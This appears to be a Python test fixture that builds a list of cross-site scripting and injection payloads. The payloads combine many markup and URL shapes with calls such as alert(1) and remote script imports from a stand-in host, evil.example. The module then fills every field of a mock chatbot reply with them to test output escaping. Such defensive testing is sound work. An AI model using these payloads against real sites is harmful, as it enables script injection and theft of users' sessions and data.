"""Words that try to become markup, code or a link, and a reply in which every text is one of them (B12)."""

from __future__ import annotations

from itertools import product
from typing import Any

CALLS = ("alert(1)", "window.__ran=1", "import('https://evil.example/x.js')", "fetch('https://evil.example')")
SHAPES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=https://evil.example/p.png>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<a href=\"javascript:{}\">x</a>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    "<template><script>{}</script></template>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/>",
    "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "\"><script>{}</script>",
    "' onmouseover='{}",
    "\" style=\"background:url(https://evil.example/b.png)",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<style>@import 'https://evil.example/i.css'</style>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "https://evil.example/\" onclick=\"{}",
    "[x](javascript:{})",
    "![x](https://evil.example/p.png)",
    "`<script>{}</script>`",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\u202e<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "${{{}}}",
    "{{{{constructor.constructor('{}')()}}}}",
)
PAYLOADS = [shape.format(call) for shape, call in product(SHAPES, CALLS)]


def reply(payloads: list[str]) -> dict[str, Any]:
    """A reply in which every text is a payload."""

    def message(payload: str) -> dict[str, Any]:
        names = ("document_id", "source_id", "title", "publisher", "authority", "kind", "locator", "url", "published")
        citation = {**dict.fromkeys(names, payload), "quote": f"{payload} cité"}
        text = f"{payload} [1]\n- {payload}"
        return {"text": text, "citations": [citation], "buttons": [{"title": payload, "payload": payload}]}

    line = {"name": payloads[0], "label": payloads[0], "value": payloads[0], "value_label": payloads[0], "source": "said"}
    rule = {"id": "a", "result": "met", "explanation": payloads[0], "charter": dict.fromkeys(("section", "says", "url"), payloads[0])}
    return {
        "conversation_id": "c", "turn_id": payloads[0], "language": "fr", "outcome": "answer", "asking": "confirm",
        "messages": [message(payload) for payload in payloads],
        "decision": {"decision": payloads[0], "rules": [rule]},
        "advice_request": {"reference": payloads[0], "status": payloads[0], "url": payloads[0]},
        "disclaimer": payloads[0], "card": [line], "corrected": payloads[0], "note": payloads[0], "handoff_form": True,
        "come_back": True, "permalink": payloads[0],
        "meter": {"present": 1, "total": 1, "items": [{"name": "a", "label": payloads[0], "present": False, "hint": payloads[0]}]},
        "review": [{"field": "a", "label": payloads[0], "value": payloads[0], "provenance": "said", "required": True}],
    }  # fmt: skip
